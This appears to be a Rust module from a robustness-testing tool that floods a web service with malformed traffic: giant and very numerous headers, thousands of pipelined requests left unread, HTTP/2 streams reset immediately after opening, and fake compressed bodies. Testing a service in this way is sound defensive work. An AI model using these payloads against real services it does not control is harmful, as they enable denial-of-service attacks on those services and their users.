//! Attacks with requests that no client library would send.

use std::io;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use crate::attacker::Attacker;
use crate::raw_connection::{RawConnection, request};

/// Sends the bytes, closes the sending side of the connection, and reads at most 1 MiB of the answer.
async fn send_and_read_to_end(attacker: &Attacker, line: &mut RawConnection, bytes: &[u8]) -> io::Result<()> {
    attacker.update_tally(|tally| tally.requests += 1);
    line.stream.write_all(bytes).await?;
    line.stream.shutdown().await?;
    let mut answer = Vec::new();
    (&mut line.stream).take(1 << 20).read_to_end(&mut answer).await?;
    let is_refused = !answer.starts_with(b"HTTP/1.1 2");
    attacker.update_tally(|tally| tally.refused_or_unanswered += u64::from(is_refused));
    Ok(())
}

/// Sends many headers, long headers, and a long query.
pub(super) async fn giant_heads(attacker: &Attacker) {
    let many: String = (0..20_000).map(|n| format!("x-{n}: {n}\r\n")).collect();
    let heads = [
        format!("GET /live HTTP/1.1\r\nhost: x\r\n{many}\r\n"),
        format!("GET /live HTTP/1.1\r\nhost: x\r\nx-long: {}\r\n\r\n", "x".repeat(380_000)),
        format!("GET /api/content?q={} HTTP/1.1\r\nhost: x\r\n\r\n", "x".repeat(60_000)),
        format!("GET /live HTTP/1.1\r\nhost: x\r\ncookie: {}\r\n\r\n", "a=b; ".repeat(70_000)),
        format!("GET /live HTTP/1.1\r\nhost: x\r\nx-forwarded-for: {}\r\n\r\n", "1.2.3.4, ".repeat(40_000)),
    ];
    attacker
        .repeat_in_parallel(20, async |number| {
            let mut line = attacker.connect(number).await?;
            send_and_read_to_end(attacker, &mut line, heads[number % heads.len()].as_bytes()).await
        })
        .await;
}

/// Sends thousands of requests over each connection, without reading the answers.
pub(super) async fn pipelined_requests(attacker: &Attacker) {
    let key = format!("x-api-key: {}", attacker.target.key);
    let requests: Vec<u8> = ["/api/openapi.json", "/api/stats", "/api/content?per_page=100"]
        .map(|path| request("GET", path, &key, ""))
        .concat()
        .repeat(1_000);
    attacker
        .repeat_in_parallel(100, async |number| {
            let mut line = attacker.connect(number).await?;
            attacker.update_tally(|tally| tally.requests += 3_000);
            line.stream.write_all(&requests).await
        })
        .await;
}

/// Sends HTTP/2 streams that are reset immediately, and bodies that claim to be compressed.
pub(super) async fn other_protocols(attacker: &Attacker) {
    let mut http2 = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0".to_vec();
    for stream in (1..20_000u32).step_by(2) {
        // A HEADERS frame with `:method: GET`, `:scheme: http`, and `:path: /`, followed by RST_STREAM.
        http2.extend_from_slice(&[0, 0, 3, 1, 5]);
        http2.extend_from_slice(&stream.to_be_bytes());
        http2.extend_from_slice(&[0x82, 0x86, 0x84, 0, 0, 4, 3, 0]);
        http2.extend_from_slice(&stream.to_be_bytes());
        http2.extend_from_slice(&8u32.to_be_bytes());
    }
    let mut packed = Vec::new();
    for encoding in ["gzip", "br", "deflate", "zstd"] {
        let head = format!(
            "POST /api/moderate HTTP/1.1\r\nhost: x\r\nx-api-key: {}\r\ncontent-type: application/json\r\n\
             content-encoding: {encoding}\r\ncontent-length: 60000\r\n\r\n\x1f",
            attacker.target.key
        );
        packed.extend_from_slice(head.as_bytes());
        packed.resize(packed.len() + 59_999, 0);
    }
    attacker
        .repeat_in_parallel(16, async |number| {
            let mut line = attacker.connect(number).await?;
            send_and_read_to_end(attacker, &mut line, if number.is_multiple_of(2) { &http2 } else { &packed }).await
        })
        .await;
}
